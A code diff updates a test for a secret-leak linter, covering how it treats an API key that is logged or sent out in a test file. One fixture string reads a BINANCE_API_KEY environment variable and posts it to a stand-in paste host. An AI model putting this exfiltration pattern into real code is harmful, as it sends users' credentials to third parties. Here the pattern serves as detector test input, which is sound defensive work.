@@ -163,9 +163,15 @@ def test_registry_validation_names_the_problem(monkeypatch):
 
 
 def test_a_leak_in_a_test_is_kept_one_severity_lower():
-    leak = ("import os, logging\nlog = logging.getLogger()\nKEY = os.environ['BINANCE_API_KEY']\n"
-            "log.info('key %s', KEY)\n")
+    # BOT2's test policy (rules/bot2/_family.py): a local sink (a log call) is not reported in
+    # a test file, a network sink (a third-party host) is kept one severity lower
+    local = ("import os, logging\nlog = logging.getLogger()\nKEY = os.environ['BINANCE_API_KEY']\n"
+             "log.info('key %s', KEY)\n")
+    assert codes(lint_source(local, "bot.py", settings(["BOT2"]))) == ["BOT201"]
+    assert lint_source(local, "tests/test_bot.py", settings(["BOT2"])) == []
+    leak = ("import os, requests\nKEY = os.environ['BINANCE_API_KEY']\n"
+            "requests.post('https://paste.example.net/api', data={'k': KEY})\n")
     ordinary = lint_source(leak, "bot.py", settings(["BOT2"]))
     in_test = lint_source(leak, "tests/test_bot.py", settings(["BOT2"]))
-    assert codes(ordinary) == codes(in_test) == ["BOT201"]
+    assert codes(ordinary) == codes(in_test) == ["BOT205"]
     assert in_test[0].severity == ordinary[0].severity.lowered()
